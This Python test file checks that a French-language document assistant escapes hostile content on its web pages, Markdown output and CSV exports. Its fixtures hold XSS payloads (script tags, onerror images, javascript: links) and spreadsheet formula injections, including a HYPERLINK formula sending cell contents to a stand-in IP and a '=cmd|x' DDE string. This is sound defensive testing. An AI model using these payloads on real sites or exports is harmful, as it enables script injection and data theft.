"""A library whose every field is hostile, and what comes of it on pages and in exports."""

import csv
import io
from collections.abc import Iterator

import httpx
import pytest
from bs4 import BeautifulSoup

from assistant import assistant as assistant_module
from assistant.http import create_api
from assistant.service import Service
from assistant.settings import AssistantSettings
from ingest import pipeline
from tests.fakes import CASE, FakeEmbedder
from tests.serving import serving
from ui.pages import add_pages

ATTACK = """<script>alert(1)</script><img src=x onerror=alert(1)> [x](javascript:alert(1)) ' onmouseover='alert(1)"""
FORMULA = """=HYPERLINK("http://192.0.2.1/"&A1,"x")"""
HOSTILE = {
    "titre: Essai d'un outil": f"titre: |-\n  {FORMULA} {ATTACK}",
    "territoire: Essai": f"territoire: |-\n  {FORMULA} {ATTACK}",
    "region: Bretagne": f"region: |-\n  @SUM(1) {ATTACK}",
    "partenaires: []": f"partenaires:\n  - |-\n    -1+1 {ATTACK}",
    'periode: "2024"': f"periode: |-\n  +1 {ATTACK}",
    "editeur: Journal, titre: Un article": "editeur: '\"><script>alert(1)</script>', titre: '=cmd|x'",
    "https://example.org/1": "https://example.org/'onmouseover='alert(1)'<script>",
    "Essai perdait de l'eau": f"Essai {ATTACK} perdait de l'eau",
    "L'outil d'Essai a trouvé": f"{FORMULA} {ATTACK} a trouvé",
}
QUESTION = "Combien de fuites ont été trouvées ?"
PAGES = [
    f"/?q={QUESTION}", "/explore", "/explore?view=list&lang=en", "/case/ville-essai", "/case/ville-essai?lang=en",
    "/compare?case=ville-essai&case=ville-essai", "/contribute", "/about", f"/?q={ATTACK}", f"/explore?q={ATTACK}",
    f"/explore?region={ATTACK}&sort={ATTACK}", f"/compare?case={ATTACK}", f"/case/{ATTACK}",
    f"/contribute?ready={ATTACK}&gone={ATTACK}&kept={ATTACK}",
]  # fmt: skip


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    folder = tmp_path_factory.mktemp("hostile")
    case = CASE
    for plain, hostile in HOSTILE.items():
        assert plain in case
        case = case.replace(plain, hostile)
    (folder / "corpus" / "cases").mkdir(parents=True)
    (folder / "corpus" / "cases" / "ville-essai.md").write_text(case, encoding="utf-8")
    folders = {name: folder / name for name in ("corpus", "index", "uploads", "models")}
    settings = AssistantSettings.model_validate({**folders, "floor": -100, "llm_url": "http://127.0.0.1:9/v1"})
    with pytest.MonkeyPatch.context() as patch:
        for part in (pipeline, assistant_module):
            patch.setattr(part, "Embedder", lambda *_: FakeEmbedder())
        report = pipeline.ingest(settings, lambda *_: None)
        assert report.plan.set_aside == {}
        with (
            Service(settings) as open_service,
            serving(add_pages(create_api(open_service))) as address,
            httpx.Client(base_url=address, timeout=60, headers={"Accept": "text/html"}) as client,
        ):
            yield client


@pytest.mark.parametrize("path", PAGES)
def test_what_a_case_or_an_address_holds_is_text_on_every_page(service: httpx.Client, path: str) -> None:
    page = BeautifulSoup(service.get(path).text, "html.parser")
    assert [script for script in page("script") if "alert" in script.text or not script.get("src", "").startswith("/")
            and script.get("type") not in ("application/json", "text/template")] == []  # fmt: skip
    for element in page(True):
        assert not [name for name in element.attrs if name.startswith("on")], element
        for name in ("href", "src", "action", "formaction"):
            assert not str(element.get(name, "")).strip().lower().startswith(("javascript:", "data:text", "vbscript:"))
    assert not page("img", src="x")


def test_an_answer_is_text_too(service: httpx.Client) -> None:
    page = service.get(f"/?q={QUESTION}").text
    assert "&lt;script&gt;" in page
    assert "<script>alert" not in page


EXPORTS = [
    ("GET", "/cases?format=csv", None),
    ("POST", "/dossier", {"cases": ["ville-essai"], "format": "csv"}),
]


@pytest.mark.parametrize(("method", "path", "body"), EXPORTS, ids=lambda given: str(given)[:20])
def test_no_cell_of_an_export_is_a_formula(service: httpx.Client, method: str, path: str, body: object) -> None:
    reply = service.request(method, path, json=body, headers={"Accept": "text/csv"})
    assert reply.status_code == 200, reply.text
    rows = list(csv.reader(io.StringIO(reply.text.removeprefix("\ufeff"))))
    cells = [cell for row in rows for cell in row if cell]
    assert any("HYPERLINK" in cell for cell in cells), "the hostile words are there"
    assert [cell for cell in cells if cell[0] in "=+-@\t\r"] == []


@pytest.mark.parametrize("path", ["/cases/ville-essai", "/answer.md"])
def test_markdown_holds_no_markup_of_theirs(service: httpx.Client, path: str) -> None:
    reply = service.get(path, params={"q": QUESTION}, headers={"Accept": "text/markdown"})
    assert reply.status_code == 200
    plain = reply.text.replace("\\<", "").replace("\\[", "").replace("\\]", "")
    assert "<script" not in plain
    assert "<img" not in plain
    assert "](javascript" not in plain
